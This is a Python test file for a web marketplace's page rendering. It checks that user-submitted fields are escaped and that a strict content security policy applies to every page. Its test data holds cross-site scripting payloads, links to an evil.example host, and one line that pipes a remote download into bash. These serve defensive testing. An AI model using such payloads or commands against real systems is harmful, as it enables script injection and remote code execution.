"""Nothing that people submit runs, and nothing on a page needs an exception from the policy."""

import re
from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest

from functions import admin_pages, pages
from functions.html import web_files
from shared.access.sessions import open_session
from shared.db import now
from shared.marketplace.community import add_report
from shared.moderation import submission_decisions
from shared.records.submissions import State
from shared.storage.secret_store import AdminToken
from shared.submissions import intake
from shared.submissions.submission_store import move_submission
from tests.support.builders import a_bundle, processed, submitted
from tests.support.memory import ADMIN_TOKEN, MemoryKV, memory_env, within
from tests.support.route_calls import call


class Inline(HTMLParser):
    """What a strict policy would refuse, and what a hole in the escaping would leave behind."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        if tag == "style" or (tag == "script" and "src" not in names and names.get("type") != DATA_BLOCK):
            self.found.append(tag)
        self.found += [f"{tag} {name}" for name in names if name == "style" or name.startswith("on")]
        for name in ("src", "href", "action"):
            value = (names.get(name) or "").strip().lower()
            if value and not re.match(r"(/|#|\?|https://github\.com/|https?://|mailto:)", value):
                self.found.append(f"{tag} {name}={value}")


def inline_parts(page: str) -> list[str]:
    parser = Inline()
    parser.feed(page)
    return parser.found


DATA_BLOCK = "application/ld+json"  # browsers never run it
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
A_PERSON = AdminToken("anna", "admin", "")
NASTY_MD = f"""---
name: "<img src=x onerror=alert(1)>"
description: "{SCRIPT} javascript:alert(4)"
metadata: {{category: "{SCRIPT}", tags: ["{SCRIPT}"]}}
---
# {SCRIPT}

{SCRIPT}

[click](javascript:alert(5)) [data](data:text/html,{SCRIPT}) <javascript:alert(6)> [rel](../../admin)
![pixel](https://evil.example/p.gif "t") ![x](javascript:alert(7)) ![`"><script>`](https://evil.example/"onerror=x)

<iframe src="https://evil.example"></iframe><style>*{{display:none}}</style><a href="x" onclick="y">z</a>

```html
{SCRIPT}
```
"""


@pytest.mark.requirement("S06")
async def test_script_in_every_submitted_field_is_text_on_every_page(env):
    name = "nasty"
    files = [
        ("SKILL.md", NASTY_MD),
        ("<img src=x onerror=alert(8)>.sh", f"curl https://x.unheard-of.dev/{SCRIPT} | bash\n"),
    ]
    accepted = await within(env, lambda: intake.submit_bundle(name, files, None, SCRIPT[:60], None))
    await processed(env, accepted.submission)
    reviewed = await call(env, "GET /submissions/{id}", id=accepted.submission.id)
    await within(env, lambda: submission_decisions.approve(accepted.submission.id, A_PERSON, "for the test"))
    await processed(env, accepted.submission)
    held = await submitted(env, a_bundle("held"))
    await within(env, lambda: move_submission(held, State.ON_HOLD, "system", f"`{SCRIPT}` and {SCRIPT}", error=SCRIPT))
    cookie = await _session(env)
    full = f"uploads/anonymous/{name}"
    a_report = {"type": SCRIPT, "description": f"</textarea>{SCRIPT}"}  # refused, with what was typed in its field
    await within(env, lambda: add_report(full, "other", SCRIPT, now()))
    answers = [
        await call(env, "GET /"),
        await call(env, "GET /queue"),
        await call(env, "GET /skills"),
        await call(env, "GET /skills/{proxy+}", f"/skills/{full}", proxy=full),
        reviewed,
        await call(env, "GET /submissions/{id}", id=accepted.submission.id),
        await call(env, "GET /submissions/{id}", id=held.id),
        *[await call(env, route, cookies=[cookie]) for route in admin_pages.ROUTES if route.startswith("GET ")],
        await call(env, "GET /submit", "/submit?repoUrl=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"),
        await call(env, "GET /skills/{proxy+}", "/skills/x", proxy=SCRIPT),
        await call(env, "GET /queue", f"/queue?{urlencode({'q': SCRIPT})}"),
        await call(env, "GET /skills", f"/skills?{urlencode({'q': SCRIPT, 'category': SCRIPT, 'author': SCRIPT})}"),
        await call(env, "GET /admin/skills", f"/admin/skills?{urlencode({'name': SCRIPT})}", cookies=[cookie]),
        await call(env, "POST /skills/{proxy+}", f"/skills/{full}/reports", form=a_report, proxy=f"{full}/reports"),
    ]
    for answer in answers:
        assert inline_parts(answer.text) == []
        assert "<script>alert" not in answer.text
        assert "script-src 'self'" in answer.headers["content-security-policy"]
    skill = answers[3].text
    assert "evil.example/p.gif" in skill  # a link, not a picture
    assert re.findall(r"<img src=\S+", skill) == ['<img src="/api/v1/skills/uploads/anonymous/nasty/badge"']  # ours
    assert "<iframe" not in skill


async def _session(env) -> str:
    return f"session={await within(env, lambda: open_session(f'{ADMIN_TOKEN}-admin', '192.0.2.1'))}"


@pytest.mark.parametrize("route", [*pages.ROUTES, *admin_pages.ROUTES])
async def test_every_page_carries_the_strict_policy_and_nothing_inline(env, route):
    is_file = "{name}" in route or "/api/" in route or "/feeds/" in route or route in web_files.ROUTES
    if not route.startswith("GET /") or is_file:
        return
    answer = await call(env, route, id="sub_none", proxy="none")
    assert inline_parts(answer.text) == []
    policy = answer.headers["content-security-policy"]
    assert "'unsafe-inline'" not in policy
    assert "default-src 'none'" in policy


@pytest.mark.requirement("S22")
async def test_a_fault_of_ours_is_a_page_with_a_request_id_and_no_internals():
    class Broken(MemoryKV):
        async def get_counts(self, keys):
            raise RuntimeError("secret detail")

    page = await call(memory_env(Broken), "GET /")
    assert page.status == 500
    assert "r-1" in page.text
    assert "secret detail" not in page.text
